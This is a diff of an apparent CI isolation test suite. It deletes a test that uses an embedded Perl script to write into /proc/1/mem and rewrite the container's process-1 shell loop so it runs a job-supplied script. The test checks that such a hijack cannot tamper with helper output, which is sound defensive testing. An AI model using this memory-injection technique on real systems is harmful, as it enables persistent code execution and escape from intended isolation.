@@ -54,36 +54,4 @@ describe.skipIf(reason)('nothing of the job runs beside the helper', () => {
     expect(result.readableTrace).toContain('\nit was alive\n');
     expect(result.readableTrace).toContain('\nnobody lives\n');
   });
-
-  // Process 1 of the build container has the job's uid: where the kernel lets a process write into another of its uid (no Yama,
-  // or ptrace_scope 0), a job can make it run anything, for as long as the container lives. Nothing in a container can end it.
-  it('a process 1 that the job has rewritten runs on, and changes nothing that the helper runs', async (test) => {
-    const result = await cluster().run({
-      repository: makeRepository(cluster().directory),
-      variables: {},
-      script: [
-        ...swapper,
-        // Its loop is `sleep 3600 & wait`; in the memory of the shell it becomes `. ./x1 & wait`, and it stands in /builds.
-        'sed "s#.CI_PROJECT_DIR#$CI_PROJECT_DIR#g" /builds/swap > /builds/x1',
-        [
-          'cat > /tmp/rewrite.pl <<"END"',
-          'open(M, "<", "/proc/1/maps"); open(F, "+<", "/proc/1/mem") or do { print "process 1 cannot be rewritten: $!\\n"; exit };',
-          'while (<M>) { next unless /^(\\w+)-(\\w+) rw/ && hex($2) - hex($1) < 1 << 24; my ($a, $b) = (hex $1, hex $2);',
-          'sysseek(F, $a, 0); next unless sysread(F, my $t, $b - $a);',
-          'for (["sleep\\0", ".\\0"], ["3600\\0", "./x1\\0"]) { my $o = -1; while (($o = index($t, $$_[0], $o + 1)) >= 0) { sysseek(F, $a + $o, 0); syswrite(F, $$_[1]) } } }',
-          'END',
-        ].join('\n'),
-        'perl /tmp/rewrite.pl',
-      ],
-      after_script: [
-        'sleep 1; test -s /builds/alive && echo "process 1 is the job\'s"',
-        'mkdir -p out && echo honest > out/a.txt',
-      ],
-      artifacts: [{ name: 'out', paths: ['out/'], when: 'always' }],
-    });
-    expect(result.trace).not.toContain('PWNED');
-    if (!result.readableTrace.includes("\nprocess 1 is the job's\n"))
-      test.skip('this kernel or this shell does not let the job rewrite process 1');
-    expect(result.artifacts).toHaveLength(1);
-  });
 });
